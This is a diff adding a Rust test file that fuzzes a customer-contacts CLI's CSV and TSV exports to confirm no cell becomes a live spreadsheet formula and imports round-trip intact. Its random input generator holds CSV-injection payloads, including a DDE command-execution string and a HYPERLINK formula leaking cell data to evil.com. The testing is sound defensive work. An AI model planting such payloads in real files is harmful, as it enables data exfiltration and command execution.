@@ -1,0 +1,194 @@
+//! Promise 18: names cannot bring formulas into spreadsheets, and come back as they were; phones that start with + too.
+//!
+//! `PIVOTAL_PROOF=full cargo test --test promises inert_cells -- --ignored --nocapture`
+
+use serde_json::Value;
+use tempfile::TempDir;
+
+use crate::hostile_strings::quoted;
+use crate::proof::{self, Dice};
+use crate::support::command::{Ran, json, pivotal};
+
+/// What makes a spreadsheet calculate.
+const SIGNS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+
+/// Gives the cells of a table that a spreadsheet would take for formulas, and counts them all.
+fn live_cells(table: &str, delimiter: u8) -> (usize, Vec<String>) {
+    let table = table.strip_prefix('\u{feff}').unwrap_or(table);
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .delimiter(delimiter)
+        .from_reader(table.as_bytes());
+    let (mut count, mut live) = (0, Vec::new());
+    for row in reader.records() {
+        let row = row.expect("as many cells in each row");
+        count += row.len();
+        live.extend(
+            row.iter()
+                .filter(|cell| cell.starts_with(SIGNS))
+                .map(str::to_owned),
+        );
+    }
+    (count, live)
+}
+
+fn ran(home: &TempDir, arguments: &[&str], input: &str) -> Ran {
+    let file = home.path().join("input");
+    std::fs::write(&file, input).expect("written");
+    let output = pivotal(home.path())
+        .args(arguments)
+        .stdin(std::fs::File::open(&file).expect("opened"))
+        .output();
+    output.expect("started").into()
+}
+
+/// Gives the people of a customer as they are, sorted.
+fn people(home: &TempDir) -> Vec<String> {
+    let document = json(home.path(), ["contact", "list", "1"]);
+    let rows = document["contacts"].as_array().expect("a list").clone();
+    let mut rows: Vec<String> = rows
+        .iter()
+        .map(|row| {
+            let cells = ["name", "email", "title", "phone"].map(|field| row[field].to_string());
+            cells.join(" | ")
+        })
+        .collect();
+    rows.sort();
+    rows
+}
+
+fn customers(home: &TempDir) -> Vec<String> {
+    let document = json(home.path(), ["customer", "list"]);
+    let rows = document["customers"].as_array().expect("a list").clone();
+    let told = |row: &Value| {
+        format!(
+            "{} {} {} {} {}",
+            row["name"], row["domain"], row["plan"], row["owner"]["name"], row["tags"]
+        )
+    };
+    let mut rows: Vec<String> = rows.iter().map(told).collect();
+    rows.sort();
+    rows
+}
+
+/// Throws a text that begins as a formula does, behind apostrophes and blanks too.
+fn formula(dice: &mut Dice) -> String {
+    let before = dice.pick(&["", "", "", "'", "''", " ", "\t", "\u{feff}", "\""]);
+    let sign = dice.pick(&["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n+"]);
+    let rest = dice.pick(&[
+        "1+1",
+        "cmd|' /C calc'!A0",
+        "HYPERLINK(\"http://evil.com?\"&A1,\"x\")",
+        "49 30 1234567",
+        "SUM(A1:A9)",
+        "2+5+cmd",
+        "a,b\"c\"",
+        "x",
+        "#",
+        " ",
+    ]);
+    format!("{before}{sign}{rest}")
+}
+
+fn tables(rows: usize) {
+    let mut dice = Dice::new(118);
+    let home = tempfile::tempdir().expect("a folder");
+    let mut table = "name,domain,owner,plan,tags\n".to_owned();
+    for number in 0..rows.div_ceil(10) {
+        let [name, owner, plan, tag] = std::array::from_fn(|_| formula(&mut dice));
+        let owner = quoted(&format!("{owner} <c{number}@us.com>"));
+        let tag = tag.replace([',', ' '], "");
+        table.push_str(&format!(
+            "{},a{number}.com,{owner},{},{}\n",
+            quoted(&format!("{name}{number}")),
+            quoted(&plan),
+            quoted(&tag)
+        ));
+    }
+    let taken = ran(&home, &["customer", "import", "-"], &table);
+    assert_eq!(taken.code, Some(0), "{}", taken.err);
+    let mut table = "name,email,title,phone\n".to_owned();
+    for row in 0..rows {
+        let [name, title] = std::array::from_fn(|_| quoted(&formula(&mut dice)));
+        // An apostrophe before anything but a sign is taken off phones: spreadsheets keep their zeros by it.
+        let phone = quoted(&formula(&mut dice).replace(['\t', '\r', '\n'], ""));
+        let email = dice.pick(&["+p", "-p", "=p", "p"]);
+        table.push_str(&format!("{name},{email}{row}@a0.com,{title},{phone}\n"));
+    }
+    let taken = ran(&home, &["contact", "import", "1", "-"], &table);
+    assert_eq!(taken.code, Some(0), "{}", taken.err);
+    let (mut cells, mut live) = (0, Vec::new());
+    let mut exported = Vec::new();
+    for (arguments, delimiter) in [
+        (
+            &["export", "contacts", "--customer", "1", "--format", "csv"][..],
+            b',',
+        ),
+        (
+            &["export", "contacts", "--customer", "1", "--format", "tsv"],
+            b'\t',
+        ),
+        (&["export", "customers", "--format", "csv"], b','),
+        (&["export", "customers", "--format", "tsv"], b'\t'),
+        (&["history", "1", "--export", "csv"], b','),
+    ] {
+        let out = ran(&home, arguments, "").out;
+        let (count, found) = live_cells(&out, delimiter);
+        cells += count;
+        live.extend(found);
+        exported.push(out);
+    }
+    let (before, there) = (people(&home), customers(&home));
+    let signed = before.iter().filter(|row| row.contains("| \"+49")).count();
+    let mut changed: Vec<String> = Vec::new();
+    let mut compares = |before: &[String], after: &[String]| {
+        assert_eq!(before.len(), after.len());
+        let pairs = before.iter().zip(after).filter(|(a, b)| a != b);
+        changed.extend(pairs.map(|(a, b)| format!("{a} became {b}")));
+    };
+    for (contacts, companies) in [(&exported[0], &exported[2]), (&exported[1], &exported[3])] {
+        let fresh = tempfile::tempdir().expect("a folder");
+        let taken = ran(&fresh, &["customer", "import", "-"], companies);
+        assert_eq!(taken.code, Some(0), "{}", taken.err);
+        compares(&there, &customers(&fresh));
+        let place = tempfile::tempdir().expect("a folder");
+        json(place.path(), ["customer", "add", "Acme", "--domain", "a0.com"]);
+        let taken = ran(&place, &["contact", "import", "1", "-"], contacts);
+        assert_eq!(taken.code, Some(0), "{}", taken.err);
+        compares(&before, &people(&place));
+    }
+    println!(
+        "promise 18: {cells} cells of {} people and {} customers exported ({signed} phones that start with +): {} live, {} rows changed by the way out and in",
+        before.len(),
+        there.len(),
+        live.len(),
+        changed.len()
+    );
+    assert!(before.len() > rows / 2 && signed > rows / 100, "they were taken");
+    assert!(live.is_empty(), "{:?}", &live[..live.len().min(10)]);
+    assert!(changed.is_empty(), "{:#?}", &changed[..changed.len().min(10)]);
+}
+
+#[test]
+fn no_cell_of_an_export_is_a_formula() {
+    tables(400);
+}
+
+#[test]
+#[ignore = "a minute: PIVOTAL_PROOF=full cargo test --test promises inert_cells -- --ignored --nocapture"]
+fn no_cell_of_a_large_export_is_a_formula() {
+    tables(proof::of(1_000, 20_000));
+}
+
+#[test]
+fn the_control_is_found_a_table_that_is_written_as_it_is() {
+    let mut dice = Dice::new(118);
+    let rows: Vec<[String; 2]> = (0..200).map(|_| [formula(&mut dice), "x".to_owned()]).collect();
+    let mut writer = csv::Writer::from_writer(Vec::new());
+    for row in &rows {
+        writer.write_record(row).expect("written");
+    }
+    let table = String::from_utf8(writer.into_inner().expect("whole")).expect("text");
+    let (cells, live) = live_cells(&table, b',');
+    assert!(cells == 400 && live.len() > 50, "{} of {cells}", live.len());
+}
